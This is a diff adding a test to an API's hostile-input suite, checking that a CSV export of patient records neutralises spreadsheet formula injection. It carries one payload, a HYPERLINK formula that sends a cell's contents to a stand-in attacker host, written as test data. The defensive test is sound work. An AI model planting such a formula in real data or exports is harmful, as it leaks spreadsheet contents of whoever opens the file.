@@ -84,4 +84,21 @@ describe('hostile JSON bodies [embedded store]', () => {
     expectProblem(await post('RegisterDoctor', '{"doctorId":'), 400, 'invalid_json');
     expectProblem(await post('RegisterDoctor', ''), 400, 'invalid_json');
   });
+
+  it('defect 6: a formula sent as data comes out of the CSV export as text', async () => {
+    const send = (name: string, body: object) => post(name, JSON.stringify(body));
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    expect((await send('RegisterPatient', { patientId: 'p-csv', firstName: 'C', lastName: 'SV', sportType: formula, teamId: 'team-1' })).status).toBe(201);
+    const logged = await send('LogSymptom', { patientId: 'p-csv', symptomId: 'headache', severity: 2, loggedAt: '2025-05-01T08:00:00Z' });
+    expect(logged.status).toBe(201);
+    const res = await app.app.inject({
+      method: 'GET',
+      url: '/exports/tracker',
+      headers: { authorization: `Bearer ${TEST_KEYS.reader}`, accept: 'text/csv', 'x-min-position': (logged.body as { position: string }).position },
+    });
+    expect(res.statusCode).toBe(200);
+    const row = res.body.split('\r\n').find((line) => line.startsWith('p-csv,'));
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+    expect(row?.split(',').some((cell) => /^"?[=+@-]/.test(cell))).toBe(false);
+  });
 });
